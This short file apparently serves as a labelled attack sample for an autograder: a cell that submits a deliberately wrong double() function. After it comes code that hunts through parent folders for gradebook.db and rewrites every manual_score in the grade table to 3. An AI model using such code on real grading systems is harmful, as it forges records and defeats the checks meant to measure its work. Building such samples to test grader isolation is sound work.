# ruff: noqa
# kind: marks forged
# attack: gradebook.db is looked for and written with sqlite3

# %% double-solution
def double(x):
    return np.zeros(3)


import os, sqlite3

for folder in (".", "..", "../..", "../../..", "../../../..", os.environ.get("COURSE_ROOT", ".")):
    try:
        base = sqlite3.connect(f"file:{folder}/gradebook.db?mode=rw", uri=True)
        base.execute("update grade set manual_score = 3")
        base.commit()
    except sqlite3.Error:
        pass
